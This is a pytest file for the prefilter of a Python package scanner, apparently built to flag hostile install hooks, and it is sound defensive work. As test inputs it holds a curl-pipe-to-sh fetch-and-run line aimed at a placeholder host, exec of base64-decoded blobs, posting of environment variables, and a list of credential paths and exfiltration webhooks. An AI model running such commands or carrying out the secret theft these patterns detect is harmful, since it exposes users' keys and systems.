"""The prefilter's parts answer what the scanner's rules need, no less.

Findings with and without the prefilter are compared in test_scan_command.py (hostile bodies
and evasions) and by bench/scan_equivalence.py (corpora); these tests pin the pieces.
"""

from __future__ import annotations

import ast
import re
import re._parser as sre_parse

import pytest

from safepip.checks.hooks import calls, prefilter
from safepip.checks.hooks.patterns import (
    IGNORECASE_LETTERS,
    SENSITIVE_PATH,
    WEBHOOK,
    fold_case,
)
from safepip.checks.hooks.prefilter import _Fragments, _View, worth_parsing

FRAGMENTS = {
    name: value for name, value in vars(prefilter).items() if isinstance(value, _Fragments)
}
SURROUNDINGS = ("{}", "x{}", "{}_y", "a.{}(b)", "_{}9", "'{}'", "# {}\n", "\u00e9{}\u00e9")


def _view(text: str) -> _View:
    return _View(text.encode("utf-8"), text)


@pytest.mark.parametrize("group", sorted(FRAGMENTS))
def test_every_fragment_is_found_inside_larger_words(group: str) -> None:
    fragments = FRAGMENTS[group]
    for needle in fragments.needles:
        for shape in SURROUNDINGS:
            text = shape.format(needle.token.decode())
            assert _view(text).has(fragments), (group, text)
            assert _view(text.upper()).has(fragments), (group, text.upper())


@pytest.mark.parametrize("group", sorted(FRAGMENTS))
def test_anchors_alone_do_not_make_a_match(group: str) -> None:
    """A text holding every anchor of a fragment, but not the fragment itself, matches only
    when another fragment of the group is really there (as substring tests say)."""
    fragments = FRAGMENTS[group]
    for needle in fragments.needles:
        data = b" | ".join(sorted(needle.anchors, reverse=True)) + b" zz"
        if needle.token in data:
            continue
        expected = any(other.token in data for other in fragments.needles)
        assert _View(data, data.decode()).has(fragments) == expected, (group, data)


def test_the_case_folds_are_every_letter_ignorecase_takes_for_ascii() -> None:
    letter = re.compile("[a-z]", re.IGNORECASE)
    taken = {chr(code) for code in range(0x80, 0x110000) if letter.fullmatch(chr(code))}
    assert taken == {special for special, _ in IGNORECASE_LETTERS}
    for special, ascii_letter in IGNORECASE_LETTERS:
        assert re.fullmatch(ascii_letter, special, re.IGNORECASE)
        assert fold_case(f"X{special}Y") == f"x{ascii_letter}y"


@pytest.mark.parametrize(
    ("catalogue", "calls_"),
    [
        (calls.PROCESS, prefilter._PROCESS_CALLS),
        (calls.NETWORK, prefilter._NETWORK_CALLS),
        (calls.HOST_INFO, prefilter._HOST_CALLS),
        (calls.DECODERS, prefilter._DECODER_CALLS),
    ],
)
def test_every_catalogued_call_is_made_by_its_import_and_use(
    catalogue: frozenset[str], calls_: prefilter._Calls
) -> None:
    for name in sorted(catalogue):
        module, _, function = name.rpartition(".")
        written = f"import {module}\n{name}(x)\n" if module else f"{name}(x)\n"
        assert _view(written).makes(calls_), name
        aliased = f"from {module} import {function} as f\nf(x)\n" if module else written
        assert _view(aliased).makes(calls_), name


@pytest.mark.parametrize(
    "written",
    ["import os\nos.execvp('a', [])\n", "import os\nos.spawnlp(0, 'a')\n",
     "import six\nsix.moves.urllib.request.urlopen(u)\n", "import httpx\nhttpx.get(u)\n",
     "import pycurl\npycurl.CurlMulti()\n", "import pybase64\npybase64.b64decode(b)\n"],
)
def test_prefixed_and_suffixed_calls_are_made(written: str) -> None:
    view = _view(written)
    assert view.makes(prefilter._PROCESS_CALLS) or view.makes(prefilter._NETWORK_CALLS) or (
        view.makes(prefilter._DECODER_CALLS)
    )


def test_a_call_lacking_one_part_is_not_made() -> None:
    assert not _view("import subprocess\n").makes(prefilter._PROCESS_CALLS)
    assert not _view("the socket layer\n").makes(prefilter._HOST_CALLS)


@pytest.mark.parametrize(
    "code",
    ["exec(x)", "exec (x)", "(exec)(x)", "exec\\\n(x)", "f(\n exec # c\n (x))", "run = exec",
     "run=(exec)", "(run := exec)", "run += exec", "@exec\ndef f(): pass",
     "@ (exec)\ndef f(): pass", "from builtins import exec as run",
     "from builtins import (\n  eval,\n  exec,\n)", "for run in exec: pass",
     "with exec as run: pass", "x = [r(1) for r in eval]", "run = \\\n  exec",
     "run = ( # c\n exec)", "execfile('x')", "run = execfile",
     "import builtins\nbuiltins.exec(x)", "__import__('builtins').eval(x)",
     "globals()['exec'](x)", "getattr(b, \"compile\")"],
)
def test_a_runner_used_as_code_is_seen(code: str) -> None:
    assert _view(code).names_a_runner()


@pytest.mark.parametrize(
    "prose",
    ["compile the statement", "re.compile(x)", "# exec stuff\nx = 1", "the eval of it",
     "execute(x)", "myexec(x)", "x.exec_(y)", "pattern.compile (x)"],
)
def test_a_runner_named_in_prose_or_as_a_method_is_not(prose: str) -> None:
    assert not _view(prose).names_a_runner()


def test_a_file_without_needs_is_skipped_and_one_with_them_is_not() -> None:
    quiet = "def add(a, b):\n    return a + b\n"
    prose = '"""Compile the statement, then eval it; b64decode is elsewhere."""\n'
    loud = "import base64\nrun = exec\nrun(base64.b64decode(blob))\n"
    assert not worth_parsing(quiet.encode(), quiet)
    assert not worth_parsing(prose.encode(), prose)
    assert worth_parsing(loud.encode(), loud)


def test_case_folding_beyond_ascii_matches_ignorecase() -> None:
    """U+212A KELVIN SIGN and U+0131 DOTLESS I are ASCII letters to re.IGNORECASE."""
    for text in ("path = '~/Library/\u212Aeychains'\n", "u = 'https://pasteb\u0131n.com/x'\n",
                 "u = 'https://pasteb\\u0131n.com/x'\n"):
        assert worth_parsing(text.encode(), text), text


def test_a_wsgi_environ_without_os_is_not_the_environment() -> None:
    wsgi = "import requests\ndef app(environ, start):\n    return requests.get(environ)\n"
    real = "import os, requests\ndef app(start):\n    return requests.get(os.environ)\n"
    aliased = "import requests\nfrom os import environ as e\nrequests.post(u, data=e)\n"
    one = "import os, requests\nrequests.get(os.environ.get('URL'))\n"
    assert not worth_parsing(wsgi.encode(), wsgi)
    assert not worth_parsing(one.encode(), one)
    assert worth_parsing(real.encode(), real) and worth_parsing(aliased.encode(), aliased)


SECRET_VALUES = (
    "~/.ssh/id_rsa", ".ssh", "C:\\Users\\me\\.ssh\\config", "\tid_ed25519",
    "/home/u/.aws/credentials", "C:\\Users\\me\\AppData\\Local\\Google\\Chrome\\User Data",
    "~/Library/Keychains/login.keychain-db", "/etc/passwd", "x/.netrc",
    "%APPDATA%\\Exodus\\exodus.wallet", "https://discord.com/api/webhooks/1/x",
    "https://hooks.slack.com/services/T/B/x", "https://x.oast.fun/", "PASTEBIN.COM/raw/1",
)


@pytest.mark.parametrize("value", SECRET_VALUES)
def test_secret_patterns_in_source_find_the_literals_that_hold_them(value: str) -> None:
    assert SENSITIVE_PATH.search(value) or WEBHOOK.search(value)
    for source in (f"P = {value!r}\n", f"P = r'{value}'\n" if "'" not in value else ""):
        if source:
            assert any(p.search(fold_case(source).encode()) for p in prefilter._SECRETS_IN_SOURCE)
            assert worth_parsing(source.encode(), source), source


def test_the_reach_around_a_hint_is_longer_than_any_match() -> None:
    for pattern in prefilter._SECRETS_IN_SOURCE:
        _, longest = sre_parse.parse(pattern.pattern, pattern.flags).getwidth()
        assert longest <= prefilter._REACH, pattern.pattern


def test_words_after_escapes_count() -> None:
    """`'\\tcurl ...'` holds the word curl (its text only `tcurl`)."""
    view = _view("import subprocess\nsubprocess.call('\\tcurl -s https://x.invalid | \\tsh')\n")
    assert {b"curl", b"sh"} <= view.words
    assert view.shell_text()


@pytest.mark.parametrize(
    ("code", "decodes"),
    [("exec(bytes ([1, 2]))", True), ("run(bytearray((1, 2)))", True),
     ("import builtins\nbuiltins.bytes([1])", True), ("globals()['bytes']([1])", True),
     ("def f(x: bytes) -> None:\n    g([1])\n", False), ("x.to_bytes(2)\nf([1])", False)],
)
def test_bytes_of_a_display_is_a_decoder(code: str, decodes: bool) -> None:
    assert _view(code).decodes() is decodes


def test_every_alternative_of_the_rules_is_tried_cheapest_need_first() -> None:
    """The evaluation order is only an order: the alternatives are the rules' own, whole."""
    from safepip.checks.hooks.rules import RULES

    wanted = {
        alternative for rule in RULES.values() if rule.reaches_low_at_import_time()
        for alternative in rule.needs
    }
    assert {frozenset(alt) for alt in prefilter._ALTERNATIVES} == wanted
    assert len(prefilter._ALTERNATIVES) == len(wanted)
    for alt in prefilter._ALTERNATIVES:
        assert list(alt) == sorted(alt, key=prefilter._cost)
    assert set(prefilter._CHEAP_FIRST) <= set(prefilter.NEEDS)  # a new need may come last


_XOR_LEFT = ("b", "b[0]", "f(b)", "'x'", "b'\\x01'", "1", "1.", "...", "x.y", "{1: b}[1]",
             "\uff42", "\u00e9", "(b)", "True", "0x1F", "1j", "f'{b}'")
_XOR_RIGHT = ("k", "-k", "~k", "+k", "(k)", "[k][0]", "{k: 1}[k]", ".5", "'k'", "0", "\u00e9",
              "\uff4b", "not_k", "b'k'")
_XOR_GAPS = (("", ""), (" ", " "), ("\t", "\x0c"), (" \\\n", " "), (" ", " \\\n"),
             ("  # c [\n", " "), (" ", " # c (\n "), ("\n", "\n"))


def _has_xor(code: str) -> bool:
    return any(isinstance(node, ast.BinOp) and isinstance(node.op, ast.BitXor)
               for node in ast.walk(ast.parse(code)))


@pytest.mark.parametrize(("before", "after"), _XOR_GAPS)
def test_every_spelling_of_an_xor_operator_is_a_decoder(before: str, after: str) -> None:
    """Operands of every shape (names, calls, subscripts, strings, numbers, `...`, fullwidth
    and accented names), blanks, comments and line continuations around the `^`: the parser
    reads an XOR, and so does the prefilter."""
    for left in _XOR_LEFT:
        for right in _XOR_RIGHT:
            code = f"x = ({left}{before}^{after}{right})\n"
            assert _has_xor(code), code
            assert _view(code).decodes(), code
    for code in ("bytes(b ^ k for b in blob)", "x = [c^k for c in d]", "f'{a^b}'",
                 "x = a\\\n^b", "x = (a  # ^\n^ b)", "x ^= k"):
        assert _view(code).decodes(), code


@pytest.mark.parametrize(
    "prose",
    ["re.compile(r'[^a-z]+$')", "m = re.match('(?:^|/)x', s)", "title = '^^^^^^'",
     "x = f'{name:^10}'", "p = '(^)'", "s = r'a|^b'"],
)
def test_a_caret_that_cannot_be_an_operator_is_no_decoder(prose: str) -> None:
    assert not _has_xor(prose)
    assert not _view(prose).decodes(), prose


_STEP_SPELLINGS = ("s[::-1]", "s[ : : -1]", "s[::(-1)]", "s[a:b:-1]", "s[len(s)::-1]",
                   "s[a[0]::-k]", "s['[':']':-1]", "s[:\n:-1]", "s[x  # [\n::-1]",
                   "s[\\\n::-1]", "s[: :- 1]", "s[0:-0:-1]", "s[1:, ::-1]", "s[{1: 2}[1]::-1]",
                   "s[(lambda: 0)()::-1]", "s[" + "x + " * 80 + "x::-1]", "s[f'[{a}':: -1]",
                   "s[::\\\n-1]", "s[:: # c\n -1]")


@pytest.mark.parametrize("code", _STEP_SPELLINGS)
def test_every_spelling_of_a_negative_step_is_a_decoder(code: str) -> None:
    """Bounds with brackets, strings holding brackets, comments, line breaks, long bounds: the
    parser reads a negated step, and the prefilter lets the file through."""
    tree = ast.parse(f"x = {code}\n")
    assert any(isinstance(node, ast.Slice) and isinstance(node.step, ast.UnaryOp)
               and isinstance(node.step.op, ast.USub) for node in ast.walk(tree)), code
    assert _view(f"x = {code}\n").decodes(), code


@pytest.mark.parametrize("code", ["s[:-1]", "s[1:-1]", "s[i + 1:-2]", "s[ :-n]"])
def test_a_negated_upper_bound_is_no_decoder(code: str) -> None:
    assert not _view(f"x = {code}\n").decodes(), code


def test_a_text_test_runs_once_per_view_and_either_view_meets_it() -> None:
    """The hidden view is judged with the written one: the written text's answers are kept
    (`_View.met`), and a need met only in the hidden text still counts."""
    code = "import subprocess\nsubprocess.call('\\x63url -s https://x.invalid -o x')\n"
    file = prefilter._File(code.encode(), code)
    asked: list[bytes] = []

    def shell(view: _View) -> bool:
        asked.append(view.data)
        return view.shell_text()

    assert not file.meets(shell)
    assert file.reveal()
    assert file.meets(shell)
    assert file.meets(shell)
    assert asked == [file.views[0].data, file.views[1].data]
    assert worth_parsing(code.encode(), code)
